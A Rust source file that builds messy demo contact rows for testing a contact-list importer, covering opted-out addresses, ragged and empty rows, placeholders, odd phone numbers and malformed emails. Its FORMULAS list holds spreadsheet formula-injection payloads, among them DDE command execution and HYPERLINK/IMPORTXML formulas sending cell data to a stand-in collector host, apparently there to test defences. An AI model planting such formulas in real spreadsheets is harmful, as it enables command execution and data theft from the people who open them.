//! Rows that are there for one reason each.

use super::{COLUMNS, COMPANY, COUNTRY, EMAIL, FIRST, Kind, LAST, Maker, NOTES, PHONE, Row, TITLE, WEBSITE};
use crate::demo::people::Person;
use crate::demo::sites::{MISSPELT, ORDINARY, companies};

/// People with an address that is fixed: those who have opted out, and those whose mailbox is special.
pub(super) fn fixed(maker: &mut Maker) -> Vec<Row> {
    const OPTED_OUT: [(&str, &str, &str); 10] = [
        ("Ada", "Lanternford", "ada.lanternford@lanternworks.example"),
        ("ADA", "LANTERNFORD", "Ada.Lanternford@Lanternworks.example"),
        ("Jonas", "Papierberg", "jonas.papierberg@musterwerk.example"),
        ("Jonas", "Papierberg", "jonas.papierberg+messe@musterwerk.example"),
        ("Chloé", "Fleurfontaine", "chloe.fleurfontaine@atelier-lune.example"),
        ("Walter", "Quillstone", "walter.quillstone@paperharbor.example"),
        ("Walter", "Quillstone", "<walter.quillstone@paperharbor.example>"),
        ("Mila", "Kiezelhof", "mila.kiezelhof@kiezelhof.example"),
        ("Noah", "Thistlewick", "noah.thistlewick@quillstone.test"),
        ("Noah", "Thistlewick", " NOAH.THISTLEWICK@QUILLSTONE.TEST "),
    ];
    const SPECIAL: [(&str, &str, &str); 12] = [
        ("Percy", "Opalgate", "percy.opalgate@lanternworks.example"),
        ("Ivy", "Emberstone", "ivy.emberstone@lanternworks.example"),
        ("Emil", "Dachsfeld", "emil.dachsfeld@musterwerk.example"),
        ("Frieda", "Mondhain", "frieda.mondhain@musterwerk.example"),
        ("Lukas", "Wolkenthal", "lwolkenthal@silberwald.example"),
        ("Mia", "Igelberg", "migelberg@silberwald.example"),
        ("Luc", "Sableval", "luc.sableval@boisclair.example"),
        ("Zoé", "Lunechamp", "zoe.lunechamp@boisclair.example"),
        ("Pablo", "Lunarosa", "pablo.lunarosa@torreserena.example"),
        ("Gaia", "Nevedolce", "gaia_nevedolce@boscochiaro.example"),
        ("Marta", "Luafeliz", "marta.luafeliz@pedradoce.example"),
        ("Marta", "Luafeliz", "Marta.Luafeliz@pedradoce.example"),
    ];
    let opted_out = OPTED_OUT.iter().map(|person| (Kind::OptedOut, person));
    let special = SPECIAL.iter().map(|person| (Kind::SpecialMailbox, person));
    let mut rows = Vec::with_capacity(OPTED_OUT.len() + SPECIAL.len());
    for (kind, (first, last, address)) in opted_out.chain(special) {
        let plain = address.to_lowercase();
        let company = companies().find(|company| plain.contains(company.domain)).unwrap_or(&ORDINARY[0]);
        let mut row = maker.employee(kind, company, &Person::new(first, last));
        row.put(EMAIL, address);
        rows.push(row);
    }
    rows
}

/// Formulas, line breaks, ragged and empty rows, placeholders, wrapped and invalid addresses.
pub(super) fn odd(maker: &mut Maker) -> Vec<Row> {
    let mut rows = Vec::new();
    for text in FORMULAS {
        let mut row = maker.contact(Kind::Formula);
        let column = maker.rng.pick(&[FIRST, COMPANY, TITLE, NOTES]);
        row.put(column, text);
        rows.push(row);
    }
    for number in 0..40 {
        let mut row = maker.contact(Kind::LineBreak);
        match number % 3 {
            0 => row.put(NOTES, "called twice,\nno answer;\r\n\"try again\" in May"),
            1 => {
                let title = format!("{}\n(part-time)", row.text(TITLE));
                row.put(TITLE, &title);
            }
            _ => {
                let company = format!("{}\nAccounts Dept.", row.text(COMPANY));
                row.put(COMPANY, &company);
            }
        }
        rows.push(row);
    }
    for number in 0..12 {
        let mut row = maker.contact(Kind::Ragged);
        match number % 3 {
            0 => row.cells.truncate(4 + number % 4),
            1 => row.cells.push(b"see other list".to_vec()),
            _ => row.cells.splice(PHONE..PHONE, [b"??".to_vec(), Vec::new()]).for_each(drop),
        }
        rows.push(row);
    }
    for number in 0..14 {
        let mut row = Row::new(Kind::Empty);
        match number % 3 {
            0 => row.cells = vec![Vec::new()], // a blank line
            1 => row.cells = vec![b" ".to_vec(); COLUMNS],
            _ => {}
        }
        rows.push(row);
    }
    for number in 0..40 {
        rows.push(placeholder(maker, number));
    }
    for number in 0..24 {
        let mut row = maker.contact(Kind::OddPhone);
        let phone = odd_phone(number, &row);
        row.put(PHONE, &phone);
        rows.push(row);
    }
    for number in 0..14 {
        let (wrong, right) = MISSPELT[number % MISSPELT.len()];
        let company = ORDINARY.iter().find(|company| company.domain == right).unwrap_or(&ORDINARY[0]);
        let person = Person::of(company.country, &mut maker.rng);
        let mut row = maker.employee(Kind::MisspeltDomain, company, &person);
        let address = row.text(EMAIL).replace(right, wrong);
        row.put(EMAIL, &address);
        rows.push(row);
    }
    for number in 0..80 {
        let mut row = maker.contact(Kind::WrappedAddress);
        let address = wrapped(number, &row);
        row.put(EMAIL, &address);
        rows.push(row);
    }
    for number in 0..50 {
        let mut row = maker.contact(Kind::InvalidAddress);
        let address = invalid(number, &row);
        row.put(EMAIL, &address);
        rows.push(row);
    }
    rows
}

const FORMULAS: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://collector.example/?x=\"&C2,\"Click\")",
    "=1+1",
    "\t=1+1",
    "=IMPORTXML(CONCAT(\"http://collector.example/?\",C3),\"//a\")",
    "@SUM(A1:A9)",
    "=DDE(\"cmd\",\"/C calc\",\"1\")",
    "+CONCATENATE(\"a\",\"b\")",
    "-1+1",
];

fn placeholder(maker: &mut Maker, number: usize) -> Row {
    const NOTHING: [&str; 8] = ["n/a", "N/A", "-", "none", "test", "unknown", "null", "xxx"];
    let mut row = maker.contact(Kind::Placeholder);
    let nothing = maker.rng.pick(&NOTHING);
    match number % 4 {
        // Only one cell: the person is still known.
        0 => row.put(PHONE, nothing),
        1 => {
            row.put(COMPANY, nothing);
            row.put(TITLE, "-");
            row.put(WEBSITE, "http://");
        }
        2 => {
            row.put(FIRST, "Test");
            row.put(LAST, "Test");
            row.put(EMAIL, "test@test.test");
            row.put(PHONE, "000000000");
        }
        // Every cell: nobody is left.
        _ => {
            for column in 0..COLUMNS {
                row.put(column, nothing);
            }
            row.put(COUNTRY, "-");
        }
    }
    row
}

/// Something in place of a telephone number, or more than one.
fn odd_phone(number: usize, row: &Row) -> String {
    match number % 6 {
        0 => "1.20256E+10".to_owned(), // what a spreadsheet makes of +1 202 56…
        1 => "12345".to_owned(),
        2 => "ask reception".to_owned(),
        3 => format!("{} / +44 20 7946 0999", row.text(PHONE)),
        4 => format!("'{}", row.text(PHONE)),
        _ => "+49 (0)30 23125 000 (Zentrale)".to_owned(),
    }
}

/// A good address with something around it.
fn wrapped(number: usize, row: &Row) -> String {
    let address = row.text(EMAIL);
    let (first, last) = (row.text(FIRST), row.text(LAST));
    match number % 8 {
        0 => format!("mailto:{address}"),
        1 => format!("<{address}>"),
        2 => format!("{first} {last} <{address}>"),
        3 => format!("{address}."),
        4 => format!("{address};"),
        5 => format!("\"{last}, {first}\" <{address}>"),
        6 => format!("{address}, info@lanternworks.example"),
        _ => format!("\u{200b}{address}\u{a0}"),
    }
}

/// Something that is no address, though some of it looks like one.
fn invalid(number: usize, row: &Row) -> String {
    let address = row.text(EMAIL);
    let (local, domain) = address.split_once('@').unwrap_or((&address, ""));
    match number % 10 {
        0 => format!("{local}.{domain}"),
        1 => format!("{local}@@{domain}"),
        2 => format!("{local}@"),
        3 => format!("@{domain}"),
        4 => format!("{local}..x@{domain}"),
        5 => format!("{} {domain}", local.replace('.', " ")),
        6 => format!(".{local}@{domain}"),
        7 => format!("{local}@{}", domain.replace('.', ",")),
        8 => format!("{local}@-{domain}"),
        _ => format!("{}@{domain}", "x".repeat(70)),
    }
}
